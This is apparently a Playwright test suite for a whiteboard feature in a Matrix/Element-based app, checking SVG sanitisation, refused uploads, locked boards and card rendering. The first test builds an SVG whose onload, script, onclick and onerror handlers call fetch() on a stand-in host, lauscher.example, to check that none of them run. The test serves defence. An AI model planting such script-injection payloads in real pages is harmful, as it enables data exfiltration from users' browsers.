import { Drawing } from './support/drawing';
import { expect, test } from './support/story';

// A person of the other homeserver looks on; what they see has gone through both.

test('a drawing is put on the whiteboard as a picture, and its scripts run nowhere', async ({
  stage,
}) => {
  const room = await stage.room({ partner: true });
  const anna = await Drawing.of(await (await stage.inElement(room, room.anna)).opened());
  await anna.add('Lageplan');
  const mia = await Drawing.of(await (await stage.inElement(room, room.mia)).opened());
  await mia.opened('Lageplan');

  // It would send word to its own host if one of its scripts ran, or it fetched something.
  const asked: string[] = [];
  await anna.page.context().route('**/lauscher.example/**', (route) => {
    asked.push(route.request().url());
    return route.abort();
  });
  const call = `fetch('https://lauscher.example/a');document.title='gekapert'`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="160" height="120" onload="${call}">
    <script>${call}</script>
    <rect width="160" height="120" fill="rgb(200,30,60)" onclick="${call}"/>
    <image href="https://lauscher.example/b.png" width="9" height="9"/>
    <foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="${call}"/></foreignObject>
  </svg>`;
  await anna.bring('paste', { name: 'plan.svg', type: 'image/svg+xml', content: svg }, [300, 300]);
  await expect.poll(() => mia.colorAt(300, 300)).toEqual([200, 30, 60]);
  await anna.bring('drop', { name: 'plan.svg', type: 'image/svg+xml', content: svg }, [750, 400]);
  await expect.poll(() => mia.colorAt(750, 400)).toEqual([200, 30, 60]);
  expect(asked).toEqual([]);
  expect(await anna.page.title()).not.toBe('gekapert');

  // Nobody gets a drawing as such.
  const kept = await anna.save('Als Excalidraw-Datei speichern');
  expect(kept.toString()).toContain('data:image/png');
  expect(kept.toString()).not.toContain('image/svg');
});

test('what cannot be a picture is refused with a sentence that says why', async ({ stage }) => {
  const room = await stage.room({});
  const anna = await Drawing.of(await (await stage.inElement(room, room.anna)).opened());
  await anna.add('Lageplan');
  await anna.rectangle(300, 200);
  const broken = { name: 'plan.svg', type: 'image/svg+xml', content: '<svg' };
  for (const [file, said] of [
    [broken, 'Dieses Bild lässt sich nicht lesen'],
    [{ ...broken, content: ' '.repeat(2 * 1024 * 1024 + 1) }, 'Dieses Bild ist zu groß'],
    [{ name: 'film.mp4', type: 'video/mp4', content: 'x' }, 'Das lässt sich nicht auf ein'],
    [{ name: 'foto.tiff', type: 'image/tiff', content: 'x' }, 'Das lässt sich nicht auf ein'],
  ] as const) {
    for (const way of ['paste', 'drop'] as const) {
      await anna.bring(way, file, [500, 300]);
      const message = anna.view.getByRole('alert').filter({ hasText: said });
      await expect(message, `${way} ${file.name}`).toBeVisible();
      await anna.view.getByRole('alert').getByRole('button', { name: 'Schließen' }).click();
    }
  }
  // A file of Excalidraw's comes beside what is there, and does not take its place.
  const kept = await anna.save('Als Excalidraw-Datei speichern');
  const file = { name: 'plan.excalidraw', type: '', content: kept.toString() };
  await anna.bring('drop', file, [500, 300]);
  await expect(anna.view.getByText('1 Elemente wurden übernommen.')).toBeVisible();
  const both = JSON.parse((await anna.save('Als Excalidraw-Datei speichern')).toString()) as {
    elements: unknown[];
  };
  expect(both.elements).toHaveLength(2);
});

test('a foreign page is not embedded, and what is pasted with it is there for all', async ({
  stage,
}) => {
  const room = await stage.room({ partner: true });
  const anna = await Drawing.of(await (await stage.inElement(room, room.anna)).opened());
  await anna.add('Ideen');
  const mia = await Drawing.of(await (await stage.inElement(room, room.mia)).opened());
  await mia.opened('Ideen');
  const common = {
    ...{ angle: 0, strokeColor: '#1e1e1e', backgroundColor: '#1e1e1e', fillStyle: 'solid' },
    ...{ strokeWidth: 2, strokeStyle: 'solid', roughness: 0, opacity: 100, groupIds: [], seed: 1 },
    ...{ version: 1, versionNonce: 1, isDeleted: false, locked: false, boundElements: [] },
  };
  const elements = [
    { ...common, id: 'a', type: 'embeddable', x: 0, y: 0, width: 200, height: 100 },
    { ...common, id: 'b', type: 'rectangle', x: 0, y: 0, width: 200, height: 100 },
  ].map((element) => ({ ...element, link: 'https://www.youtube.com/watch?v=dQw4w9WgXcQ' }));
  await anna.pasteText(JSON.stringify({ type: 'excalidraw/clipboard', elements }), [500, 300]);
  await expect(anna.view.getByText('Ein Teil davon wurde weggelassen')).toBeVisible();
  await expect.poll(() => mia.colorAt(500, 300)).toEqual([30, 30, 30]);
  await expect(anna.view.locator('iframe')).toHaveCount(0);
  const kept = (await anna.save('Als Excalidraw-Datei speichern')).toString();
  expect(kept).not.toContain('embeddable');

  // An address is written as what it is.
  await anna.pasteText('https://www.youtube.com/watch?v=dQw4w9WgXcQ', [300, 500]);
  await mia.view.getByRole('button', { name: 'Gliederung' }).click();
  const theirs = mia.view.getByRole('region', { name: 'Gliederung' });
  await expect(theirs.getByRole('textbox', { name: 'Textfeld' })).toHaveValue(/youtube/);
});

test('who is not allowed to draw any more can copy what they were writing', async ({ stage }) => {
  const room = await stage.room({ partner: true });
  const anna = await Drawing.of(await (await stage.inElement(room, room.anna)).opened());
  await anna.add('Protokoll');
  const mia = await Drawing.of(await (await stage.inElement(room, room.mia)).opened());
  await mia.opened('Protokoll');
  await mia.tool('t');
  await mia.drag([400, 300], [400, 300]);
  await mia.page.keyboard.type('Das Wort zum Umzug');
  const menu = anna.view.getByRole('button', { name: 'Aktionen für Whiteboard Protokoll' });
  await menu.click();
  await anna.view.getByRole('menuitem', { name: 'Für alle außer der Moderation sperren' }).click();
  await expect(mia.view.getByText('Dieses Whiteboard ist gesperrt')).toBeVisible();
  await mia.view.getByRole('tab', { name: 'Whiteboard' }).focus();
  await expect(mia.view.getByText('Sie dürfen hier nicht mehr zeichnen')).toBeVisible();
  await mia.page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
  await mia.view.getByRole('button', { name: 'Text kopieren' }).click();
  await mia.expectInk(410, 300, false);

  // A text that is too long is refused by the server, and can be copied as well.
  await anna.pasteText('lang '.repeat(4_000), [400, 300]);
  await expect(anna.view.getByText('Der Text ist zu lang')).toBeVisible();
  await expect(anna.view.getByRole('button', { name: 'Text kopieren' })).toBeVisible();
  await anna.view.getByRole('button', { name: 'Gliederung' }).click();
  await expect(
    anna.view.getByRole('region', { name: 'Gliederung' }).getByRole('listitem'),
  ).toHaveCount(0);
});

test('a card in a saved picture is drawn as it is now', async ({ stage }) => {
  const title = 'Umzugsfirma für das ganze Rathaus beauftragen';
  const room = await stage.room({});
  const card = await room.seat.addCard(title);
  const anna = await Drawing.of(await (await stage.inElement(room, room.anna)).opened());
  await anna.add('Ideen');
  await anna.choose('Karte zeigen …');
  await anna.view.getByRole('dialog').getByRole('button', { name: 'Hinzufügen' }).click();
  const face = anna.view.getByText('Karte 1 · Offen');
  await expect(face).toBeVisible();
  await room.seat.do('card.edit', { card, due: '2031-05-20' });
  await room.seat.do('card.assign', { card, user: room.anna.id, on: true });
  const shown = anna.view.locator('.excalidraw__embeddable-container');
  await expect(shown.getByText('Anna Petersen')).toBeAttached();
  const svg = (await anna.save('Als Bild speichern (SVG)')).toString();
  for (const words of [
    'Umzugsfirma',
    'Rathaus',
    'Karte 1 · Offen',
    '2031-05-20',
    'Anna Petersen',
  ]) {
    expect(svg).toContain(words);
  }
  // The same as a picture; the place of the card is no longer empty.
  const png = await anna.save('Als Bild speichern (PNG)');
  expect(png.length).toBeGreaterThan(4_000);
});
